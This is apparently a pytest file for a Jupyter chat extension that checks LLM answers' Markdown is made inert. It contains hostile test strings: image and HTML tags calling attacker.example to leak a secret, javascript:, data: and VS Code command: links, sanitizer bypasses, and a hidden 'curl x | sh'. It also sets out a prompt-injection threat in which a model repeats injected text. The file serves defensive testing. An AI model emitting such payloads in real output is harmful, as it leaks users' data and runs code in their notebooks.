"""Red team: a ``%chat`` answer's ``text/markdown`` is inert in any front end.

VS Code, Colab, nbviewer (and JupyterLab without this extension) render that Markdown
with their own renderers, which pass raw HTML and load any image: a hostile answer (or
injected text the model repeats) could make them request an attacker's URL carrying
data. Our own renderer shows raw HTML as text and images as links; the plain Markdown
now does the same, code left as it is.
"""

from __future__ import annotations

import re

import pytest

from jupyter_chatkit.kernel.inert_markdown import inert_markdown

from .fixtures.fake_llm import FakeLLM, Reply, ToolCall
from .test_kernel_comm import Kernel, kernel, kernel_on_fake_llm, markdown_of

__all__ = ["kernel", "kernel_on_fake_llm"]

HOSTILE = (
    "Look <img src=https://attacker.example/p.png?d=SECRET> "
    "![chart](https://attacker.example/c.png?d=SECRET) <script>alert(1)</script>\n\n"
    "![ref][r]\n\n[r]: https://attacker.example/r.png\n\n"
    "Compare `a<b` inline."
)
CODE = 'html = "<b>bold</b>"\nprint(html if 1 < 2 else "![x](y)")'


def test_a_chat_answer_s_markdown_has_no_raw_html_or_image(
    kernel: Kernel, kernel_on_fake_llm: FakeLLM
) -> None:
    kernel_on_fake_llm.script(
        Reply(tool_calls=[ToolCall("propose_code", {"code": CODE})]), Reply(HOSTILE)
    )
    (shown,) = markdown_of(kernel.execute("%chat show me"))
    prose = shown.split(CODE)[-1]
    assert "<img" not in prose and "<script" not in prose
    assert "![" not in prose
    assert "&lt;img" in prose and "&#33;[chart](https://attacker.example/c.png" in prose
    # Code in the card's fence is untouched; an inline span with '<' is an HTML <code>.
    assert CODE in shown and "<code>a&#60;b</code>" in shown


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ("a <b>x</b>", "a &lt;b>x&lt;/b>"),
        ("![i](u)", "&#33;[i](u)"),
        ("``x ` <y`` <z", "<code>x &#96; &#60;y</code> &lt;z"),
        ("`a` <z", "`a` &lt;z"),
        # A tilde fence is one some renderers do not know.
        ("~~~\n<a>\n~~~\n<a>", "<pre><code>&#60;a&#62;</code></pre>\n&lt;a>"),
        ("~~~\nplain\n~~~\n<a>", "~~~\nplain\n~~~\n&lt;a>"),
        ("````\n```\n<a>\n````\n<a>", "````\n```\n<a>\n````\n&lt;a>"),
        # A fence some renderer reads otherwise (indented in a list item; closed by
        # marked's '```~') is one <pre> line; a backtick in a backtick fence's info
        # string makes no fence at all.
        (
            "- a\n  ```py\n  x<1\n  y\n- <b>",
            '- a\n  <pre><code class="language-py">x&#60;1&#10;y</code></pre>\n- &lt;b>',
        ),
        ("```\n```~\n<a>\n```", "<pre><code>&#96;&#96;&#96;&#126;&#10;&#60;a&#62;</code></pre>"),
        ("``` a`b\n<a>", "``` a`b\n&lt;a>"),
        ("unclosed `code <a>", "unclosed `code &lt;a>"),
        ("plain text", "plain text"),
    ],
)
def test_inert_markdown(text: str, inert: str) -> None:
    assert inert_markdown(text) == inert


# Each was raw HTML or an image in marked (JupyterLab, VS Code's notebook renderer) and
# mistune (nbviewer) with the first version, which trusted its own reading of code.
BYPASSES = [
    "\\![x](https://a.example/p.png)",  # '\\![' became an escaped backslash + an image
    "\\`<img src=https://a.example/x>`",  # an escaped backtick opens no code span
    "\\`![x](https://a.example/p.png)`",
    "`x\ny` <img src=https://a.example/y> `w`",  # a code span over two lines
    "``` a`b\n<img src=https://a.example/z>\n```",  # no fence: a backtick in its info
    "- a\n  ```\n  code\n- <img src=https://a.example/l>\n```",  # the list item ends it
    "```\ncode\n```~\n<img src=https://a.example/m>\n```",  # marked ends it at '```~'
]


@pytest.mark.parametrize("text", BYPASSES)
def test_no_reading_of_code_lets_html_or_an_image_through(text: str) -> None:
    # Safety by construction: whatever a renderer takes for code, no '<' but our
    # <code>/<pre> tags and no '![' are left.
    out = inert_markdown(text)
    assert "![" not in out
    assert "<" not in re.sub(r"</?(pre|code)( class=\"language-[\w+-]+\")?>", "", out)


# Links a renderer without a scheme check makes live (marked: JupyterLab's and the
# classic Notebook's; VS Code runs ``command:`` links): JavaScript, data, commands, with
# the scheme hidden behind a reference, an escape, a line break or a definition.
HOSTILE_LINKS = [
    "[fixed plot](javascript:fetch('/api/kernels'))",
    "[x](JaVaScRiPt:alert(1)) and [y](vbscript:msgbox)",
    "[x](java&#x73;cript:alert(1)) [z](javascript&colon;alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[run](command:workbench.action.terminal.sendSequence?%7B%7D)",
    "[page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "See [the fix][f].\n\n[f]: javascript:alert(2)",
    "See [the fix][f].\n\n[f]:\n  javascript:alert(2)",
    "- item [x](javascript:alert(3))\n> quote [y](javascript:alert(4))",
    "~~~\n[x](javascript:alert(5))\n~~~",
    "\\`[x](javascript:alert(6))`",
]


@pytest.mark.parametrize("text", HOSTILE_LINKS)
def test_no_link_in_an_answer_s_markdown_can_run_anything(text: str) -> None:
    """Rendered by a renderer that checks no scheme (mistune with its check off, as
    marked is), no link goes anywhere but http(s), mailto or a relative path; the
    words still show."""
    import mistune

    render = mistune.create_markdown(
        renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True)
    )
    shown = render(inert_markdown(text))
    hrefs = re.findall(r'href="([^"]*)"', shown)
    assert all(re.match(r"(https?:|mailto:|[^:]*$)", h, re.I) for h in hrefs), (shown, hrefs)


def test_web_and_relative_links_stay_links() -> None:
    text = "[docs](https://example.org/a) [data](data/sales.csv) [m](mailto:a@example.org)"
    assert inert_markdown(text) == text


def test_inert_markdown_is_linear_on_backtick_runs_of_unrepeated_lengths() -> None:
    # A lazy regex read the rest of the line again for every run (about 70 s at 1M
    # characters; pytest-timeout ends it).
    text = "".join("`" * k + "x<" for k in range(1, 1414))
    out = inert_markdown(text)
    assert "<" not in out and out.count("&lt;") == 1413


# Code in an answer shows what Unicode draws as nothing (js/src/ui/bidi.ts does the same in
# our renderer): `cmd` and `cmd<U+034F>` are two names to Python, drawn alike.
@pytest.mark.parametrize(
    ("text", "inert"),
    [
        (
            '```python\ncmd\u034f = "curl x | sh"\ncmd = "ls"\nos.system(cmd\u034f)\n```',
            '```python\ncmd⟦U+034F⟧ = "curl x | sh"\ncmd = "ls"\nos.system(cmd⟦U+034F⟧)\n```',
        ),
        ("~~~\n\u3164 = 1\nok\ufe0f = 2\n~~~", "~~~\n⟦U+3164⟧ = 1\nok⟦U+FE0F⟧ = 2\n~~~"),
        ("run `cmd\u200b` now", "run `cmd⟦U+200B⟧` now"),
        ("```\n<b>x\U000e0041</b>\n```", "```\n<b>x⟦U+E0041⟧</b>\n```"),
        # A fence only some renderers read as one: one <pre> line, shown the same.
        ("- a\n  ```\n  x\u034f<1\n- b", "- a\n  <pre><code>x⟦U&#43;034F⟧&#60;1</code></pre>\n- b"),
        # An indented code block is code too (4 spaces or a tab, after a blank line),
        # but a list item's next paragraph, indented as much, is prose.
        ("Run:\n\n    os.system(cmd\u034f)\n", "Run:\n\n    os.system(cmd⟦U+034F⟧)\n"),
        ("Run:\n\n\tx = 1\n\tcmd\u200b()", "Run:\n\n\tx = 1\n\tcmd⟦U+200B⟧()"),
        (
            "- a\n\n    \U0001f468\u200d\U0001f469 here\n",
            "- a\n\n    \U0001f468\u200d\U0001f469 here\n",
        ),
        ("a\n    b\u200d", "a\n    b\u200d"),
        # An emoji's selector and joiner, and prose, are left as they are.
        ('```\nprint("\u26a0\ufe0f done")\n```', '```\nprint("\u26a0\ufe0f done")\n```'),
        (
            "a family \U0001f468\u200d\U0001f469 in prose",
            "a family \U0001f468\u200d\U0001f469 in prose",
        ),
    ],
)
def test_code_shows_characters_drawn_as_nothing(text: str, inert: str) -> None:
    assert inert_markdown(text) == inert
